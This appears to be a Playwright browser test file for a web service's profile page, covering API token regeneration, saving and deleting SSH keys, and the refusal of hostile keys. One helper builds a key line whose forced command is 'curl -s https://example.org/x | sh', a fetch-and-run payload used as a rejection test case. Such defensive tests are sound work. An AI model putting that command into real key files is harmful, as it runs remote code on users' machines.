"""The profile in a real browser: the API token and the saved SSH keys."""

from __future__ import annotations

import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Console, Service, ssh_keygen
from tests.browser.flows import message


def fingerprint(public_line: str, directory: Path) -> str:
    """SHA256:… of a public key, as ssh-keygen computes it."""
    path = directory / "key.pub"
    path.write_text(public_line + "\n")
    shown = subprocess.run(["ssh-keygen", "-l", "-f", str(path)], check=True, capture_output=True, text=True)
    return shown.stdout.split()[1]


def test_regenerating_the_api_token_replaces_it_everywhere_on_the_page(
    page: Any, service: Service, as_new_user: tuple[str, str]
) -> None:
    page.goto("/accounts/profile/")
    token = page.locator("#api-token")
    old = token.text_content() or ""
    assert re.fullmatch(r"[0-9a-f]{40}", old), old
    expect(page.locator("#copr-config")).to_contain_text(f"token = {old}")

    page.get_by_role("button", name="Regenerate").click()

    expect(message(page)).to_have_text("A new API token was created; the old one no longer works.")
    expect(token).not_to_have_text(old)
    new = token.text_content() or ""
    assert re.fullmatch(r"[0-9a-f]{40}", new), new
    expect(page.locator("#copr-config")).to_contain_text(f"token = {new}")
    assert old not in page.content()


def test_a_saved_key_is_listed_with_its_fingerprint_and_can_be_deleted(
    page: Any, service: Service, as_new_user: tuple[str, str], tmp_path: Path, screenshot
) -> None:
    line = ssh_keygen(tmp_path, "ed25519", "me@laptop")
    expected = fingerprint(line, tmp_path)
    page.goto("/accounts/profile/")
    expect(page.get_by_text("No saved keys yet.")).to_be_visible()

    page.get_by_label("Title").fill("work laptop")
    page.get_by_label("Public key").fill(line)
    page.get_by_role("button", name="Save key").click()

    expect(message(page)).to_have_text(f"Saved key “work laptop” ({expected}).")
    row = page.get_by_role("row").filter(has_text="work laptop")
    expect(row).to_contain_text(expected)
    expect(row).to_contain_text("ED25519 · 256 bits")
    screenshot("profile", full_page=True)

    row.get_by_role("button", name="Delete").click()
    expect(message(page)).to_have_text(f"Deleted key “work laptop” ({expected}).")
    expect(page.get_by_text("No saved keys yet.")).to_be_visible()


def _with_options(line: str) -> str:
    return f'command="curl -s https://example.org/x | sh",no-pty {line}'


def _private_key(directory: Path) -> str:
    ssh_keygen(directory, "ed25519", "oops")
    [private] = [p for p in directory.iterdir() if not p.name.endswith(".pub")]
    return private.read_text()


def _huge(line: str) -> str:
    return f"{line} {'A' * 100_000}"


@pytest.mark.parametrize(
    ("make", "shown"),
    [
        (lambda d: _with_options(ssh_keygen(d, "ed25519", "x")), "This key is not accepted:"),
        (_private_key, "this is a PRIVATE key: never paste it anywhere"),
        (lambda d: _huge(ssh_keygen(d, "ed25519", "x")), "a key line may have at most 8192"),
    ],
    ids=["options", "private-key", "100-kb"],
)
def test_a_hostile_key_is_refused_with_a_clear_message_and_nothing_is_saved(
    page: Any,
    service: Service,
    as_new_user: tuple[str, str],
    console: Console,
    tmp_path: Path,
    make,
    shown: str,
) -> None:
    console.expected.append(r"^400 .*/keys/add/$")
    console.expected.append(r"status of 400 \(Bad Request\)")
    page.goto("/accounts/profile/")
    page.get_by_label("Title").fill("hostile")
    page.get_by_label("Public key").fill(make(tmp_path))
    page.get_by_role("button", name="Save key").click()

    expect(page.locator(".errorlist")).to_contain_text(shown)
    expect(page.get_by_text("No saved keys yet.")).to_be_visible()
    # The rest of the profile is there as before.
    expect(page.get_by_label("E-mail address")).to_be_visible()
    page.goto("/accounts/profile/")
    expect(page.get_by_text("No saved keys yet.")).to_be_visible()
